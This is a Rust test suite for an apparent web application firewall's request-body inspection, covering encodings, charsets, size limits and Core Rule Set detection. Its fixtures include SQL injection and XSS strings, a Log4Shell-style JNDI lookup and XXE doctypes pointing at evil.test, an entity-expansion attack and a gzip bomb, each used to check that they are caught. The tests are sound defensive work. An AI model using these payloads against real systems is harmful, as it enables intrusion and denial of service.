//! Bodies as whole transactions see them: codings, charsets, limits, and what rules get to look at.

#![cfg(test)]

mod support;

use std::io::Write as _;
use std::sync::Arc;

use bytes::Bytes;
use flate2::Compression;
use flate2::write::GzEncoder;
use phalanx_inspect::{CompileOptions, Findings, Outcome, Program, Transaction};
use phalanx_policy::seclang::{LoadOptions, load_dirs};
use support::{connection, head, program, run};

/// 1: an attack was seen. 2: the body cannot be read. 3: more came than is inspected. 8500002 refuses what cannot be read.
const RULES: &str = r#"
    SecRule ARGS|ARGS_NAMES|FILES|XML:/*|XML://@* "@contains evil" "id:1,phase:2,pass,t:none"
    SecRule REQBODY_ERROR "@eq 1" "id:2,phase:2,pass,t:none,msg:'%{REQBODY_ERROR_MSG}'"
    SecRule INBOUND_DATA_ERROR "@eq 1" "id:3,phase:2,pass,t:none"
    SecRuleRemoveById 8500002 8500003
"#;

fn post(fields: &str) -> String {
    format!("POST /api HTTP/1.1\nHost: shop.test\n{fields}")
}

fn found(program: &Arc<Program>, fields: &str, body: &[u8]) -> Vec<u64> {
    run(program, &head(&post(fields)), body).matched_rules.into_iter().filter(|rule| *rule < 100).collect()
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(text).unwrap();
    encoder.finish().unwrap()
}

fn utf32(text: &str) -> Vec<u8> {
    text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect()
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

const MULTIPART: &str = "Content-Type: multipart/form-data; boundary=b1";

/// A body of each type that is read, with an attack in it.
fn each_type() -> Vec<(&'static str, Vec<u8>)> {
    let framed = [&[0, 0, 0, 0, 6][..], b"\x0a\x04evil"].concat();
    vec![
        ("Content-Type: application/x-www-form-urlencoded", b"a=b&c=evil".to_vec()),
        (MULTIPART, b"--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nevil\r\n--b1--\r\n".to_vec()),
        ("Content-Type: application/json", b"{\"a\":\"evil\"}".to_vec()),
        ("Content-Type: application/vnd.api+json; charset=utf-8", b"{\"a\":\"evil\"}".to_vec()),
        ("Content-Type: application/scim+json", b"{\"evil\":1}".to_vec()),
        ("Content-Type: application/x-ndjson", b"{\"a\":1}\n{\"a\":\"evil\"}\n".to_vec()),
        ("Content-Type: application/jsonl", b"{\"a\":\"evil\"}".to_vec()),
        ("Content-Type: application/json-seq", b"\x1e{\"a\":\"evil\"}\n".to_vec()),
        ("Content-Type: application/graphql", b"{a(b:\"evil\")}".to_vec()),
        ("Content-Type: application/graphql-request+json", b"{\"query\":\"{a(b:\\\"evil\\\")}\"}".to_vec()),
        ("Content-Type: application/protobuf", b"\x0a\x04evil".to_vec()),
        ("Content-Type: application/x-protobuf", b"\x0a\x06\x0a\x04evil".to_vec()),
        ("Content-Type: application/grpc", framed.clone()),
        ("Content-Type: application/grpc-web+proto", framed),
        ("Content-Type: application/grpc-web-text", b"AAAAAAYKBGV2aWw=".to_vec()),
        ("Content-Type: application/soap+xml", b"<a b=\"1\">evil</a>".to_vec()),
        ("Content-Type: text/xml; charset=utf-8", b"<a b=\"evil\"/>".to_vec()),
    ]
}

#[test]
fn each_type_is_read() {
    let program = program(RULES);
    for (fields, body) in each_type() {
        assert_eq!(found(&program, fields, &body), [1], "{fields}");
    }
}

#[test]
fn the_raw_body_is_there_for_each_processor_once_it_is_asked_for() {
    let raw = "SecRule REQUEST_BODY \"@contains evil\" \"id:4,phase:2,pass,t:none\"\n";
    let force = "SecAction \"id:5,phase:1,pass,nolog,ctl:forceRequestBodyVariable=On\"\n";
    let (plain, forced) = (program(raw), program(&format!("{force}{raw}")));
    let mut all = each_type();
    all.retain(|(fields, _)| !fields.contains("web-text"));
    all.push(("Content-Type: text/plain", b"evil".to_vec()));
    all.push(("X-No: type", b"evil".to_vec()));
    all.push(("Content-Type: image/png", b"evil".to_vec()));
    for (fields, body) in all {
        let unforced = ["multipart", "xml", "proto", "grpc", "plain", "No", "png"];
        let expected: &[u64] = if unforced.iter().any(|part| fields.contains(part)) { &[] } else { &[4] };
        assert_eq!(found(&plain, fields, &body), expected, "{fields}");
        assert_eq!(found(&forced, fields, &body), [4], "{fields}");
        let coded = format!("{fields}\nContent-Encoding: gzip");
        assert_eq!(found(&forced, &coded, &gzip(&body)), [4], "{coded}");
    }
}

#[test]
fn each_type_is_read_through_a_coding() {
    let program = program(RULES);
    for (fields, body) in each_type() {
        for coding in ["gzip", "X-Gzip", "identity, gzip"] {
            let fields = format!("{fields}\nContent-Encoding: {coding}");
            assert_eq!(found(&program, &fields, &gzip(&body)), [1], "{fields}");
        }
        let fields = format!("{fields}\nContent-Encoding: gzip\nContent-Encoding: gzip");
        assert_eq!(found(&program, &fields, &gzip(&gzip(&body))), [1], "{fields}");
    }
}

#[test]
fn a_coding_that_cannot_be_undone_is_an_error_for_each_type() {
    let program = program(RULES);
    for (fields, body) in each_type() {
        let zipped = gzip(&body);
        for (coding, body) in [
            ("gzip", [&zipped[..], b"more"].concat()),
            ("gzip", zipped[..zipped.len() - 1].to_vec()),
            ("gzip", body.clone()),
            ("br", zipped.clone()),
            ("compress", zipped.clone()),
            ("gzip, gzip, gzip", gzip(&gzip(&zipped))),
        ] {
            let fields = format!("{fields}\nContent-Encoding: {coding}");
            assert!(found(&program, &fields, &body).contains(&2), "{fields}");
        }
    }
}

#[test]
fn a_bomb_is_refused_with_its_reason() {
    let program = program("");
    let fields = "Content-Type: application/json\nContent-Encoding: gzip";
    let findings = run(&program, &head(&post(fields)), &gzip(&[b'['; 900_000]));
    assert_eq!(findings.interruption.as_ref().map(|stop| (stop.rule, stop.status)), Some((8_500_002, 400)));
    let data = format!("{:?}", findings.signals);
    assert!(data.contains("expands beyond measure"), "{data}");
}

#[test]
fn a_rule_set_says_how_much_a_compressed_body_may_hold() {
    let body = [b"{\"a\":\"".as_slice(), &vec![b'e'; 400_000], b"\"}"].concat();
    let fields = "Content-Type: application/json\nContent-Encoding: gzip";
    let ratio = body.len() / gzip(&body).len();
    assert!(ratio > 500, "{ratio}");
    let framed = [&[1][..], &u32::try_from(gzip(&body).len()).unwrap().to_be_bytes(), &gzip(&body)].concat();
    let grpc = "Content-Type: application/grpc\nGrpc-Encoding: gzip";
    for (setting, refused) in
        [("", true), ("SecRequestBodyDecodedRatio 400\n", true), ("SecRequestBodyDecodedRatio 2000\n", false)]
    {
        let program = program(&format!("{setting}{RULES}"));
        assert_eq!(found(&program, fields, &gzip(&body)).contains(&2), refused, "{setting}");
        let told = format!("{:?}", run(&program, &head(&post(grpc)), &framed).signals);
        assert_eq!(told.contains("beyond measure"), refused, "{setting} {told}");
    }
    let strict = program(&format!("SecRequestBodyDecodedRatio 1\n{RULES}"));
    let small = b"{\"a\":\"some text of a client\"}";
    assert!(found(&strict, fields, &gzip(small)).is_empty(), "the first 64 KiB are free");
}

#[test]
fn a_compressed_body_beyond_the_limit_follows_the_limit_action() {
    let mut state = 7u32;
    let mut large = b"a=evil&b=".to_vec();
    large.extend(
        std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            b"abcdefgh"[(state >> 29) as usize]
        })
        .take(1_200_000),
    );
    let body = gzip(&large);
    assert!(body.len() < 1 << 20 && large.len() < body.len() * 90);
    let fields = "Content-Type: application/x-www-form-urlencoded\nContent-Encoding: gzip";
    let rejecting = run(&program(RULES), &head(&post(fields)), &body);
    assert_eq!(rejecting.interruption.map(|stop| (stop.rule, stop.status)), Some((0, 413)));
    let partial = format!("SecRequestBodyLimitAction ProcessPartial\n{RULES}");
    assert_eq!(found(&program(&partial), fields, &body), [1, 3]);
}

#[test]
fn memory_of_decoded_bodies_is_told() {
    let program = program(RULES);
    for (coding, least) in [("gzip", 50_000), ("identity", 0)] {
        let body = vec![b'a'; 50_000];
        let body = if coding == "gzip" { gzip(&body) } else { body };
        let fields = format!("Content-Type: application/x-www-form-urlencoded\nContent-Encoding: {coding}");
        let mut transaction = Transaction::new(Arc::clone(&program), Box::default(), connection());
        transaction.request_head(&head(&post(&fields)));
        let before = transaction.memory();
        transaction.request_body(body.into(), true);
        let taken = transaction.memory() - before;
        assert!(taken >= least && (least > 0 || taken < 5_000), "{coding} {taken}");
    }
}

#[test]
fn memory_of_parsed_values_and_of_their_forms_is_told() {
    let taken = |rules: &str, fields: &str, body: &str| {
        let mut transaction = Transaction::new(program(rules), Box::default(), connection());
        transaction.request_head(&head(&post(fields)));
        let before = transaction.memory();
        transaction.request_body(Bytes::copy_from_slice(body.as_bytes()), true);
        transaction.memory() - before
    };
    let json = "Content-Type: application/json";
    let key = "k".repeat(4_000);
    let nested = format!("{{\"{key}\":{{\"{key}\":[1,2,3]}}}}");
    assert!(taken("", json, &nested) > 3 * 8_000, "each name repeats those around it");
    let text = format!("[\"{}\"]", "A%41".repeat(10_000));
    let transforming = "SecRule ARGS \"@rx x\" \"id:1,phase:2,pass,t:urlDecode,t:base64Encode\"";
    assert!(taken("", json, &text) < 10_000);
    assert!(taken(transforming, json, &text) > 2 * 20_000);
    let many: Vec<String> = (0..900).map(|n| format!("a{n}=V{n}")).collect();
    assert!(taken("", "Content-Type: application/x-www-form-urlencoded", &many.join("&")) > 900 * 100);
    let mut response = Transaction::new(program("SecResponseBodyAccess On"), Box::default(), connection());
    response.request_head(&head("GET / HTTP/1.1\nHost: h"));
    let fields: [(&[u8], &[u8]); 2] = [(b"Content-Type", b"text/html"), (b"Content-Encoding", b"gzip")];
    response.response_head(200, &mut fields.into_iter());
    let before = response.memory();
    response.response_body(gzip(&[b'x'; 50_000]).into(), true);
    assert!(response.memory() - before >= 50_000);
}

#[test]
fn bodies_that_no_processor_reads_are_not_complained_about() {
    let program = program(RULES);
    for fields in [
        "Content-Type: application/octet-stream",
        "Content-Type: application/octet-stream\nContent-Encoding: aws-chunked",
        "Content-Type: image/png\nContent-Encoding: gzip",
        "Content-Type: text/plain; charset=utf-7",
        "X-Nothing: 1",
    ] {
        assert!(found(&program, fields, b"\x89PNG evil").is_empty(), "{fields}");
    }
    assert_eq!(found(&program, "Content-Type: text/plain", b" {\"a\":\"evil\""), [1]);
    assert_eq!(
        found(&program, "Content-Type: text/plain\nContent-Encoding: gzip", &gzip(b"{\"a\":\"evil\"}")),
        [1]
    );
    let hidden = format!("{{\"a\":\"{}\",\"b\":\"evil\"}}", " ".repeat(500_000));
    let found = found(&program, "Content-Type: text/plain\nContent-Encoding: gzip", &gzip(hidden.as_bytes()));
    assert_eq!(found, [2], "what a bomb hides behind itself");
}

#[test]
fn texts_in_other_charsets_are_read_or_refused() {
    let program = program(RULES);
    let marked = |text: &str| [&[0xff, 0xfe][..], &utf16(text)].concat();
    let json = "{\"a\":\"evil\"}";
    for (fields, body, expected) in [
        ("Content-Type: application/json; charset=utf-16", marked(json), &[1][..]),
        ("Content-Type: application/json; charset=UTF-16LE", utf16(json), &[1]),
        ("Content-Type: application/json; charset=iso-8859-1", b"{\"a\":\"evil \xe9\"}".to_vec(), &[1]),
        (
            "Content-Type: application/xml",
            marked("<?xml version=\"1.0\" encoding=\"utf-16\"?><a>evil</a>"),
            &[1],
        ),
        (
            "Content-Type: text/xml",
            b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>evil \xe9</a>".to_vec(),
            &[1],
        ),
        ("Content-Type: application/x-ndjson; charset=utf-16le", utf16("1\n\"evil\""), &[1]),
        ("Content-Type: application/json; charset=utf-16", utf16(json), &[2]),
        ("Content-Type: application/json", utf16(json), &[2]),
        ("Content-Type: application/json", marked(json), &[1]),
        ("Content-Type: application/json", [&[0xff, 0xfe, 0, 0][..], &utf32(json)].concat(), &[1]),
        ("Content-Type: application/json", utf32(json), &[2]),
        ("Content-Type: application/json; charset=utf-8", marked(json), &[2]),
        ("Content-Type: application/json; charset=utf-8", utf16(json), &[2]),
        ("Content-Type: application/json; charset=iso-8859-1", utf16(json), &[2]),
        ("Content-Type: application/json; charset=utf-16be", marked(json), &[2]),
        ("Content-Type: application/x-ndjson", marked(json), &[1]),
        ("Content-Type: application/x-ndjson", utf16(json), &[2]),
        ("Content-Type: application/graphql", marked("{a(b:\"evil\")}"), &[1]),
        ("Content-Type: application/graphql", utf16("{a(b:\"evil\")}"), &[2]),
        ("Content-Type: application/graphql", b"#\0\n{a(b:\"evil\")}".to_vec(), &[1, 2]),
        ("Content-Type: application/xml", utf16("<a>evil</a>"), &[2]),
        ("Content-Type: application/xml", utf32("<a>evil</a>"), &[2]),
        ("Content-Type: application/xml", [&[0xff, 0xfe, 0, 0][..], &utf32("<a>evil</a>")].concat(), &[2]),
        ("Content-Type: application/json; charset=utf-16le", utf16(json)[..23].to_vec(), &[1, 2]),
        ("Content-Type: application/json; charset=utf-7", json.into(), &[1, 2]),
        ("Content-Type: application/json; charset=utf-32", json.into(), &[1, 2]),
        ("Content-Type: application/json; charset=utf-8; charset=utf-7", json.into(), &[1, 2]),
        ("Content-Type: application/json; charset=nonsense", json.into(), &[1, 2]),
        ("Content-Type: application/x-www-form-urlencoded; charset=ibm037", b"a=evil".to_vec(), &[1, 2]),
        ("Content-Type: application/x-www-form-urlencoded; charset=utf-16", b"a=evil".to_vec(), &[1, 2]),
        (
            "Content-Type: application/x-www-form-urlencoded; charset=windows-1252",
            b"a=evil\xe9".to_vec(),
            &[1],
        ),
        ("Content-Type: application/json\nContent-Type: text/plain", json.into(), &[1, 2]),
    ] {
        assert_eq!(found(&program, fields, &body), expected, "{fields}");
    }
    let form = b"--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nevil\r\n--b1--\r\n";
    assert_eq!(found(&program, &format!("{MULTIPART}; charset=utf-7"), form), [1, 2]);
}

#[test]
fn json_in_wide_charsets_is_read_whatever_the_type_says() {
    let program = program(RULES);
    let texts = [
        "{\"a\":\"evil\"}",
        " \n[\"x\", \"\u{4e2d}evil\"]",
        "{\"a\\u0065\":\"\\u0065vil\"}",
        "{\"\":NaN,'evil':1}",
    ];
    for text in texts {
        let swapped = |bytes: Vec<u8>, width| -> Vec<u8> {
            bytes.chunks(width).flat_map(|unit| unit.iter().rev().copied()).collect()
        };
        for wide in [utf16(text), swapped(utf16(text), 2), utf32(text), swapped(utf32(text), 4)] {
            let marked = match *wide.as_slice() {
                [0, 0, 0, _, ..] => [&[0, 0, 0xfe, 0xff][..], &wide].concat(),
                [_, 0, 0, 0, ..] => [&[0xff, 0xfe, 0, 0][..], &wide].concat(),
                [0, ..] => [&[0xfe, 0xff][..], &wide].concat(),
                _ => [&[0xff, 0xfe][..], &wide].concat(),
            };
            let cut = wide[..wide.len() - 1].to_vec();
            for body in [wide, marked, cut] {
                for fields in [
                    "Accept: */*",
                    "Content-Type: text/plain",
                    "Content-Type: text/plain; charset=utf-8",
                    "Content-Type: text/plain; charset=iso-8859-1",
                    "Content-Type: text/plain; charset=utf-16be",
                    "Content-Type: text/plain; charset=utf-7",
                    "Content-Type: application/octet-stream",
                    "Content-Type: image/png",
                ] {
                    assert_eq!(found(&program, fields, &body), [1], "{fields} {}", body.escape_ascii());
                }
            }
        }
    }
    // Half of it in another charset than it begins in.
    for body in [&b"{\0\"a\":\"evil\"}"[..], b"[\0\0\0\"evil\"]", b"\0{\"evil\"}"] {
        assert_eq!(found(&program, "Content-Type: text/plain", body), [1], "{}", body.escape_ascii());
    }
    for harmless in
        [&b"\0\0\0\x18ftypmp42"[..], b"MZ\x90\0\x03\0\0\0", b"\xff\xfeh\0i\0", b"\0", b"{", b"[\0"]
    {
        assert_eq!(found(&program, "Content-Type: video/mp4", harmless), [0u64; 0]);
    }
}

/// The rules that match on a body that was cut off at its limit.
fn cut(rules: &str, fields: &str, body: &[u8]) -> Findings {
    let mut transaction = Transaction::new(program(rules), Box::default(), connection());
    assert_eq!(transaction.request_head(&head(&post(fields))), Outcome::Pass);
    transaction.request_body(Bytes::copy_from_slice(body), false);
    transaction.finish(200).0
}

#[test]
fn a_body_that_is_cut_off_is_refused_or_its_part_is_read_without_an_error() {
    let partial = format!("SecRequestBodyLimitAction ProcessPartial\n{RULES}");
    let framed = [&[0, 0, 0, 0, 90][..], b"\x0a\x40evil"].concat();
    let zipped = gzip(
        &[
            &b"a=evil&b="[..],
            &(0..4_000u32).flat_map(|n| (n * 7919 % 10_007).to_le_bytes()).collect::<Vec<u8>>(),
        ]
        .concat(),
    );
    for (fields, body) in [
        ("Content-Type: application/x-www-form-urlencoded", &b"a=b&c=evil&d=%4"[..]),
        (MULTIPART, b"--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nevil"),
        (
            MULTIPART,
            b"--b1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nevil\r\n--b1\r\nContent-Dispo",
        ),
        ("Content-Type: application/json", b"{\"a\":[\"evil"),
        ("Content-Type: application/json", b"{\"a\":\"evil\",\"b\":\"\xc3"),
        ("Content-Type: application/json; charset=utf-16le", &utf16("{\"a\":\"evils")[..21]),
        ("Content-Type: application/x-ndjson", b"{\"a\":\"evil\"}\n{\"b\":tru"),
        ("Content-Type: application/graphql", b"{a(b:\"evil"),
        ("Content-Type: application/protobuf", b"\x0a\x40evil"),
        ("Content-Type: application/grpc", &framed),
        ("Content-Type: application/xml", b"<a><b>evil</b><c"),
        ("Content-Type: application/xml", b"<a><b d=\"evil"),
        (
            "Content-Type: application/x-www-form-urlencoded\nContent-Encoding: gzip",
            &zipped[..zipped.len() / 2],
        ),
    ] {
        assert_eq!(cut(&partial, fields, body).matched_rules, [1, 3], "{fields}");
        let stop = cut(RULES, fields, body).interruption;
        assert_eq!(stop.map(|stop| (stop.rule, stop.status)), Some((0, 413)), "{fields}");
    }
    for (fields, body) in [
        ("Content-Type: application/json", &b"{\"a\":\"evil\",]"[..]),
        ("Content-Type: application/xml", b"<a>evil</b><c"),
        ("Content-Type: application/protobuf", b"\x0a\x04evil\x0f\x0a\x40"),
    ] {
        assert_eq!(cut(&partial, fields, body).matched_rules, [1, 2, 3], "{fields}");
    }
}

#[test]
fn empty_elements_are_arguments_like_others() {
    let rules = r#"
        SecParseXmlIntoArgs On
        SecRule ARGS_NAMES "@streq xml.a" "id:1,phase:2,pass,t:none"
        SecRule ARGS:xml.a "@streq x" "id:2,phase:2,pass,t:none"
    "#;
    let program = program(rules);
    let fields = "Content-Type: application/xml";
    assert_eq!(found(&program, fields, b"<a></a>"), [1]);
    assert_eq!(found(&program, fields, b"<a/>"), [1]);
    assert_eq!(found(&program, fields, b"<a>x</a>"), [1, 2]);
}

#[test]
fn xml_expands_and_fetches_nothing() {
    let program = program(RULES);
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    for body in [
        format!("<!DOCTYPE a [<!ENTITY l0 \"lol\">{laughs}]><a>&l9;</a>"),
        "<!DOCTYPE a SYSTEM \"http://evil.test/x.dtd\"><a/>".to_owned(),
        "<!DOCTYPE a PUBLIC \"x\" \"http://evil.test/x.dtd\"><a/>".to_owned(),
        "<!DOCTYPE a [<!ATTLIST a b CDATA \"evil\">]><a/>".to_owned(),
        "<!DOCTYPE a [ ]><a/>".to_owned(),
        "<!DOCTYPE a[]><a/>".to_owned(),
    ] {
        assert!(found(&program, "Content-Type: application/xml", body.as_bytes()).contains(&2), "{body}");
    }
    assert!(found(&program, "Content-Type: application/xml", b"<!DOCTYPE a><a/>").is_empty());
}

fn crs() -> Option<Arc<Program>> {
    let Some(shared) = std::env::var_os("PHALANX_SHARED") else {
        assert!(std::env::var_os("CI").is_none(), "PHALANX_SHARED must be set in CI");
        println!("skipped: the Core Rule Set needs PHALANX_SHARED");
        return None;
    };
    let folder = std::path::PathBuf::from(shared).join("conformance/crs");
    let loaded = load_dirs(&[folder], &LoadOptions::default()).unwrap();
    Some(Arc::new(Program::compile(&loaded.rules, &CompileOptions::default()).unwrap()))
}

#[test]
fn ordinary_graphql_is_no_attack_for_the_core_rule_set_and_an_injection_in_it_is() {
    let Some(program) = crs() else { return };
    let fields = "User-Agent: Mozilla/5.0\nAccept: */*\nContent-Length: 9\nContent-Type: application/json";
    let json = |query: &str, variables: &str| {
        let query = query.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
        format!("{{\"operationName\":\"Q\",\"query\":\"{query}\",\"variables\":{variables}}}")
    };
    let introspection = "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } directives { name \
        description locations args { ...InputValue } } } }\nfragment FullType on __Type { kind name description fields(includeDeprecated: true) \
        { name args { ...InputValue } type { ...TypeRef } isDeprecated deprecationReason } }\nfragment InputValue on __InputValue { name \
        type { ...TypeRef } defaultValue }\nfragment TypeRef on __Type { kind name ofType { kind name ofType { kind name } } }";
    for (query, variables) in [
        (
            "query Q($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    friends(first: 10, after: \"abc==\") { edges { node { name } } }\n  }\n}",
            "{\"id\":\"42\"}",
        ),
        (
            "mutation Q($input: CreateOrder!) { createOrder(input: $input) { order { id total } errors { field message } } }",
            "{\"input\":{\"items\":[{\"sku\":\"A-1\",\"count\":2}],\"note\":\"please don't ring\"}}",
        ),
        (
            "query Q { products(filter: {price: {gt: 10, lt: 20}}, sort: [NAME_ASC]) { nodes { id ...F } } system { time version } } fragment F on Product { title }",
            "null",
        ),
        (
            "# the shop's page\nquery Q($a: [Int!]! = [1, 2], $b: Boolean = false) @cached(ttl: 60) { items(ids: $a) @include(if: $b) { id } }",
            "{}",
        ),
        ("subscription Q { orderChanged(where: {status: {_eq: OPEN}}) { id status updated_at } }", "{}"),
        (introspection, "{}"),
    ] {
        let findings = run(&program, &head(&post(fields)), json(query, variables).as_bytes());
        assert!(findings.interruption.is_none(), "{query}: {:?}", findings.signals);
        assert_eq!(findings.score, 0, "{query}: {:?}", findings.signals);
    }
    for (query, variables) in [
        ("query Q { user(id: \"1' or '1'='1\") { name } }", "{}"),
        ("query Q($id: ID) { user(id: $id) { name } }", "{\"id\":\"1' union select password from users--\"}"),
        ("query Q { user(bio: \"\"\"<script>alert(1)</script>\"\"\") { name } }", "{}"),
        ("query Q { a } # <script>alert(1)</script>", "{}"),
        ("query Q { user(id: \"\\u0031' or '1'='1\") { name } }", "{}"),
        ("${jndi:ldap://evil.test/a}", "{}"),
    ] {
        let findings = run(&program, &head(&post(fields)), json(query, variables).as_bytes());
        assert!(findings.interruption.is_some(), "{query} {variables}: {:?}", findings.matched_rules);
    }
}

#[test]
fn ordinary_messages_are_no_attack_for_the_core_rule_set_and_an_injection_in_them_is() {
    let Some(program) = crs() else { return };
    let field = |number: u8, content: &[u8]| {
        [&[number << 3 | 2, u8::try_from(content.len()).unwrap()][..], content].concat()
    };
    let user = |name: &[u8]| {
        let address =
            [field(1, b"12 High Street"), field(2, b"O'Connell's Lane"), vec![3 << 3, 0x96, 1]].concat();
        let message = [
            vec![1 << 3, 42],
            field(2, name),
            field(3, &address),
            field(4, &[0, 1, 2, 3, 0xfe, 0xff]),
            field(5, &[1, 0, 2, 0]),
        ]
        .concat();
        [&[0, 0, 0, 0, u8::try_from(message.len()).unwrap()][..], &message].concat()
    };
    let fields =
        "User-Agent: grpc-web/1\nAccept: */*\nContent-Length: 9\nContent-Type: application/grpc-web+proto";
    // The rule set's list of allowed content types does not have this one.
    let only_the_type = |findings: &Findings| {
        findings.matched_rules.iter().all(|rule| matches!(rule, ..911_000 | 920_420 | 949_000..))
    };
    let findings = run(&program, &head(&post(fields)), &user(b"Ada Lovelace"));
    assert!(only_the_type(&findings), "{:?}", findings.matched_rules);
    let findings = run(&program, &head(&post(fields)), &user(b"1' or '1'='1"));
    assert!(findings.matched_rules.contains(&942_100), "{:?}", findings.matched_rules);
}

#[test]
fn a_leak_in_a_compressed_page_is_seen_by_the_core_rule_set() {
    let Some(_) = crs() else { return };
    let folder =
        std::path::PathBuf::from(std::env::var_os("PHALANX_SHARED").unwrap()).join("conformance/crs");
    let dir = std::env::temp_dir().join(format!("phalanx-response-access-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("own.conf"), "SecResponseBodyAccess On\n").unwrap();
    let loaded = load_dirs(&[folder, dir.clone()], &LoadOptions::default()).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let program = Arc::new(Program::compile(&loaded.rules, &CompileOptions::default()).unwrap());
    let page = b"<html><b>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</b></html>";
    for (coding, body) in [(None, page.to_vec()), (Some("gzip"), gzip(page)), (Some("unknown"), gzip(page))] {
        let mut transaction = Transaction::new(Arc::clone(&program), Box::default(), connection());
        let get = head("GET / HTTP/1.1\nHost: shop.test\nUser-Agent: Mozilla/5.0\nAccept: */*");
        assert_eq!(transaction.request_head(&get), Outcome::Pass);
        assert_eq!(transaction.request_body(Bytes::new(), true), Outcome::Pass);
        let fields = [("Content-Type", "text/html"), ("Content-Encoding", coding.unwrap_or("identity"))];
        let mut fields = fields.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes()));
        assert_eq!(transaction.response_head(200, &mut fields), Outcome::Pass);
        let outcome = transaction.response_body(body.into(), true);
        assert_eq!(outcome != Outcome::Pass, coding != Some("unknown"), "{coding:?}");
    }
}
